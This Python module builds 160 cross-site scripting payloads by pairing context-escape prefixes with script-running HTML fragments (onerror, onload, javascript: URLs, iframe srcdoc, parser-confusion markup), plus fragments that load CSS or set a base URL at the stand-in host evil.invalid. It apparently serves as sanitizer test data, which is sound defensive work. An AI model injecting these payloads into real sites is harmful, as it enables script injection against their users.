"""160 payloads of markup: each combines a way out of its context and something that a browser runs."""

from itertools import product

# Ways out of a context: text, an attribute, a title, a script, a comment, a select, CDATA.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "</option></select>",
    "]]>",
    "</noscript></template>",
)
# Each creates an element of the class `made-of-words`, or a link with a javascript: address.
RUNNING = (
    '<script class="made-of-words">alert(1)</script>',
    '<img class="made-of-words" src="x" onerror="alert(1)">',
    '<svg class="made-of-words" onload="alert(1)"><animate onbegin="alert(1)" attributeName="x"/></svg>',
    '<details class="made-of-words" open ontoggle="alert(1)"><summary>x</summary></details>',
    '<iframe class="made-of-words" srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<a class="made-of-words" href="javascript:alert(1)">x</a>',
    '<form class="made-of-words" action="javascript:alert(1)"><button autofocus onfocus="alert(1)">x</button></form>',
    '<math class="made-of-words"><mtext><style><img src onerror="alert(1)"></style></mtext></math>',
    '<div class="made-of-words" hx-get="/sign-in/" hx-trigger="load" hx-on:load="alert(1)">x</div>',
    '<base class="made-of-words" href="//evil.invalid/">',
    '<meta class="made-of-words" http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link class="made-of-words" rel="stylesheet" href="//evil.invalid/x.css">',
    '<style class="made-of-words">@import "//evil.invalid/x.css"; * { display: none }</style>',
    '<object class="made-of-words" data="data:text/html,<script>alert(1)</script>"></object>',
    '<video class="made-of-words"><source onerror="alert(1)"></video>',
    '" autofocus onfocus="alert(1)" class="made-of-words" x="',
)
# One text contains every way out before the same element, each text beginning with another one.
TEXTS = [
    "".join(way + running for way in WAYS_OUT[first:] + WAYS_OUT[:first])
    for first, running in ((number % len(WAYS_OUT), running) for number, running in enumerate(RUNNING))
]
PAYLOADS = list(map("".join, product(WAYS_OUT, RUNNING)))
